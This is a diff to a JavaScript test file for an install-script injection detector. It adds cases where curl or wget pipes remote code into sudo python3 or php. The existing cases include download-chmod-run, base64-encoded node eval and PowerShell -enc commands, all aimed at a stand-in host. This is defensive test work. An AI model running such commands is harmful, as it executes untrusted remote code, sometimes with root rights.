@@ -148,6 +148,8 @@ describe('install_script_injection', () => {
     });
   it.each([
     ['curl https://x.example/p.sh | sh', 'shell.download-pipe-shell'],
+    ['curl -sSf https://x.example/dump.py | sudo python3 | grep -ao secret', 'shell.download-pipe-shell'],
+    ['wget -qO- https://x.example/p.php | sudo -E php', 'shell.download-pipe-shell'],
     ['wget https://x.example/b -O /tmp/b && chmod +x /tmp/b && /tmp/b', 'shell.download-chmod-run'],
     ["node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"", 'shell.encoded-node-eval'],
     ['powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'shell.powershell-encoded'],
